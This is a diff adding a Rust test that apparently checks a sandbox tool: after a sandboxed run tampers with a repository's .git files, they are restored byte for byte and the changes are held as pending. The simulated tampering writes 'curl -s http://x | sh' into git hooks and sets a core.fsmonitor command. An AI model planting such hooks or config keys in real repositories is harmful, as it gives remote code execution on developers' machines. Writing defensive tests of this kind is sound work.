@@ -491,3 +491,38 @@ fn the_walk_service_keeps_the_records_of_a_walk_that_stops() {
         unsafe { libc::kill(pid, libc::SIGTERM) };
     }
 }
+
+/// A repository whose files have not changed for a while (at the Standard level, where `.git` is
+/// reviewed in place, the review does not read a file again that is still the launch's inode at
+/// the launch's change time): after a run that changes nothing, a run that rewrites a hook in
+/// place, appends to one of git's inert samples and adds an executable config key has each put
+/// back byte for byte (checked from outside), and the changes are pending. Bare, they land.
+#[test]
+fn a_settled_repository_a_run_changed_is_put_back_byte_for_byte() {
+    let w = World::new();
+    let init = w.bare("git init -q . && printf '#!/bin/sh\\necho HOST-HOOK\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit && echo ok");
+    assert!(init.stdout.contains("ok"), "{}", init.describe());
+    let files = [".git/hooks/pre-commit", ".git/hooks/pre-push.sample", ".git/config"];
+    let before: Vec<Vec<u8>> = files.iter().map(|f| fs::read(w.ws.join(f)).unwrap()).collect();
+    // Older than the change-time window the cache and the review trust (2 s).
+    std::thread::sleep(Duration::from_millis(2300));
+    let o = w.sandboxed("echo NOTHING");
+    assert!(o.stdout.contains("NOTHING"), "{}", o.describe());
+    let change = "printf 'curl -s http://x | sh\\n' > .git/hooks/pre-commit; printf 'curl -s http://x | sh\\n' >> .git/hooks/pre-push.sample; \
+                  git config core.fsmonitor 'touch /tmp/pwned'; echo CHANGED";
+    let o = w.sandboxed(change);
+    assert!(o.stdout.contains("CHANGED"), "{}", o.describe());
+    for (f, b) in files.iter().zip(&before) {
+        assert_eq!(&fs::read(w.ws.join(f)).unwrap(), b, "{f} is not what it was before the run\n{}", o.describe());
+    }
+    let pending = parse_one_json(&run(w.localgpt_cmd(&["sandbox", "pending", "--json"]), "pending"));
+    let targets: Vec<String> = pending["pending"].as_array().unwrap().iter().map(|c| c["target"].as_str().unwrap_or("").to_string()).collect();
+    for f in files {
+        assert!(targets.iter().any(|t| t.ends_with(f)), "{f} is not a pending change\n{targets:?}");
+    }
+    let b = w.bare(change);
+    assert!(b.stdout.contains("CHANGED"), "{}", b.describe());
+    for (f, b) in files.iter().zip(&before) {
+        assert_ne!(&fs::read(w.ws.join(f)).unwrap(), b, "bare, {f} changes");
+    }
+}
